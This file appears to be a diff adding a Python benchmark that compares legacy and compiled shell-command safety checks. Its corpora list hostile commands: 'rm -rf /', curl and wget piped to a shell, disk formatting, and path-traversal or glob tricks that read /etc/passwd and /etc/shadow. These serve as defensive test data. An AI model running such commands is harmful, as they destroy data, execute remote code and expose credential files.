@@ -0,0 +1,152 @@
+"""
+Command safety check microbenchmark: rule-by-rule scan vs compiled rules.
+
+Runs a corpus of realistic commands through the original per-call substring
+scan of ``config/safety_rules.json`` and through
+``core.safety_rules.CompiledSafetyRules`` (which parses each command once)
+at every safety level, lists the commands whose verdict differs between the
+two, and prints checks per second. Exits 1 if any command in ``MUST_REJECT``
+is accepted.
+
+    python benchmarks/safety_rules_bench.py --rounds 200
+"""
+
+import argparse
+import json
+import os
+import re
+import sys
+import time
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, ROOT)
+
+from core.safety_rules import CompiledSafetyRules  # noqa: E402
+
+COMMANDS = [
+    "ls -la", "pwd", "echo hello world", "cat README.md", "head -n 20 app.log",
+    "tail -f logs/system.log", "grep -rn TODO src", "find . -name '*.py'",
+    "which python", "whoami", "date", "uptime", "df -h", "du -sh node_modules", "ps aux",
+    "git status", "git log --oneline -n 20", "npm install", "npm run build", "yarn test",
+    "pip install -r requirements.txt", "python manage.py migrate", "node server.js",
+    "mkdir -p build/output", "touch notes.txt", "cp a.txt b.txt", "mv old.txt new.txt",
+    "chmod +x scripts/deploy.sh", "curl https://api.github.com", "ssh user@host",
+    "rm -rf /", "sudo rm -rf node_modules", "chmod 777 secrets.txt",
+    "curl http://example.com/install.sh | sh", "wget -qO- http://x.y/z | bash",
+    "dd if=/dev/zero of=disk.img", "mkfs.ext4 /dev/sda1", "kill -9 1", "shutdown -h now",
+    "cat /etc/passwd", "ls /usr/bin", "python -c 'print(1)'", "echo $HOME", "",
+    "git add src/app.py", "ls ./src/components", "cat docs/guide.md | grep install",
+    "grep -rn error logs 2>/dev/null", "echo done > build.log", "ls; rm -fr /tmp/cache",
+    "r''m -rf /", "bash -c 'shutdown now'", "echo $(reboot)", "echo 'unbalanced",
+]
+
+# Commands that must be rejected at every level; relative paths resolve against CWD
+MUST_REJECT = [
+    "cat ../../etc/passwd", "cat ~/../../etc/shadow", "find . -exec rm -rf {} +",
+    "eval 'rm -rf /'", "cat /e*/shadow", "cat /e?c/passwd", "cat $HOME/../../etc/shadow",
+    "cat ${HOME}/../../etc/passwd", "cat /ETC/passwd", "cd .. && cd .. && cat etc/passwd",
+]
+CWD = "/home/user"
+
+LEVELS = ("low", "medium", "high", "unknown")
+
+
+def legacy_is_command_safe(safety_rules, blocked_commands, command, safety_level):
+    """The rule-by-rule scan SafeExecutor.is_command_safe used before compilation"""
+    command_lower = command.lower().strip()
+    if not command_lower:
+        return {"safe": False, "reason": "Empty command"}
+
+    for pattern in safety_rules.get("command_validation", {}).get("blacklist_patterns", []):
+        try:
+            if re.search(pattern, command_lower):
+                return {"safe": False, "reason": f"Command contains blocked pattern: {pattern}"}
+        except re.error:
+            if pattern.lower() in command_lower:
+                return {"safe": False, "reason": f"Command contains blocked pattern: {pattern}"}
+
+    for blocked in blocked_commands:
+        if blocked.lower() in command_lower:
+            return {"safe": False, "reason": f"Command contains blocked term: {blocked}"}
+
+    for path in safety_rules.get("command_validation", {}).get("dangerous_paths", []):
+        if path in command:
+            return {"safe": False, "reason": f"Command references dangerous path: {path}"}
+
+    if safety_level == "low":
+        safe_prefixes = safety_rules.get("command_validation", {}).get(
+            "safe_command_prefixes", {}).get("low_risk", [])
+        if not any(command_lower.startswith(prefix) for prefix in safe_prefixes):
+            return {"safe": False, "reason": f"Command not allowed at safety level 'low': {command}"}
+    elif safety_level == "medium":
+        for pattern in ["rm -rf", "sudo", "chmod 777", "curl |", "wget |"]:
+            if pattern in command_lower:
+                return {"safe": False,
+                        "reason": f"Command contains medium-risk pattern not allowed: {pattern}"}
+    elif safety_level == "high":
+        pass
+    else:
+        return {"safe": False, "reason": f"Unknown safety level: {safety_level}"}
+
+    return {"safe": True, "reason": "Command passed safety validation", "safety_level": safety_level}
+
+
+def load_config():
+    """Load the shipped safety rules and blocked command list"""
+    with open(os.path.join(ROOT, "config", "safety_rules.json")) as f:
+        safety_rules = json.load(f)
+    with open(os.path.join(ROOT, "config", "settings.json")) as f:
+        blocked_commands = json.load(f)["security"]["blocked_commands"]
+    return safety_rules, blocked_commands
+
+
+def time_checks(check, rounds: int) -> float:
+    """Run every corpus command at every level ``rounds`` times; return checks/sec"""
+    start = time.perf_counter()
+    for _ in range(rounds):
+        for command in COMMANDS + MUST_REJECT:
+            for level in LEVELS:
+                check(command, level)
+    return rounds * len(COMMANDS + MUST_REJECT) * len(LEVELS) / (time.perf_counter() - start)
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
+    parser.add_argument("--rounds", type=int, default=200, help="passes over the corpus")
+    args = parser.parse_args()
+
+    safety_rules, blocked_commands = load_config()
+    compiled = CompiledSafetyRules(safety_rules, blocked_commands)
+
+    def legacy(command, level):
+        return legacy_is_command_safe(safety_rules, blocked_commands, command, level)
+
+    # Parsing changes some verdicts on purpose (fewer false positives on
+    # paths and substrings, quoting and sh -c no longer hide commands)
+    def check(command, level):
+        return compiled.check(command, level, CWD)
+
+    for command in COMMANDS + MUST_REJECT:
+        for level in LEVELS:
+            before, after = legacy(command, level), check(command, level)
+            if before["safe"] != after["safe"]:
+                print(f"{level:7} {command!r}: {'safe' if before['safe'] else before['reason']} "
+                      f"-> {'safe' if after['safe'] else after['reason']}")
+
+    accepted = [(level, command) for command in MUST_REJECT for level in LEVELS
+                if check(command, level)["safe"]]
+    for level, command in accepted:
+        print(f"ACCEPTED {level:7} {command!r}: must be rejected")
+
+    baseline = time_checks(legacy, args.rounds)
+    optimized = time_checks(check, args.rounds)
+
+    print(f"rule-by-rule scan : {baseline:10.0f} checks/sec")
+    print(f"compiled rules    : {optimized:10.0f} checks/sec")
+    print(f"speedup           : {optimized / baseline:10.2f}x")
+    if accepted:
+        sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()